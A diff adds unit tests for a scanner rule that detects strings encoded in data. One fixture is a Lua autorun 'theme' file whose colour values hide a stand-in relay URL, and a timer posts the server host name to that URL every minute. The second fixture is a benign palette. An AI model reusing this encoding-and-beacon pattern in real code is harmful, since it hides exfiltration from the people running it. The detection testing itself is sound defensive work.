@@ -19,4 +19,32 @@ describe('string_encoding', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it("a web address hidden in a palette's colour values", () => {
+    const findings = check(rule, {
+      'lua/autorun/sh_theme.lua': [
+        'Theme = { Embed = { Color(104, 116, 116), Color(112, 115, 58), Color(47, 47, 104), Color(111, 111, 107),',
+        ' Color(115, 46, 101), Color(120, 97, 109), Color(112, 108, 101), Color(46, 105, 110),',
+        ' Color(118, 97, 108), Color(105, 100, 0) } }',
+        'function Theme.Pack(name)',
+        ' local out = {}',
+        ' for i, c in ipairs(Theme[name]) do out[i] = string.char(c.r, c.g, c.b) end',
+        ' return (string.gsub(table.concat(out), "%z", ""))',
+        'end',
+        'local relay = Theme.Pack("Embed")',
+        'timer.Create("relay", 60, 0, function() http.Post(relay, { host = GetHostName() }) end)',
+      ].join('\n'),
+    });
+    expect(findings.some((f) => f.decoded?.includes('https://hooks.example.invalid'))).toBe(true);
+  });
+  it('a palette of colours that is only drawn', () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_theme.lua': [
+        'local palette = { Color(46, 204, 113), Color(231, 76, 60), Color(52, 152, 219) }',
+        'hook.Add("HUDPaint", "theme", function()',
+        ' for i, c in ipairs(palette) do surface.SetDrawColor(c.r, c.g, c.b) surface.DrawRect(i * 20, 10, 16, 16) end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
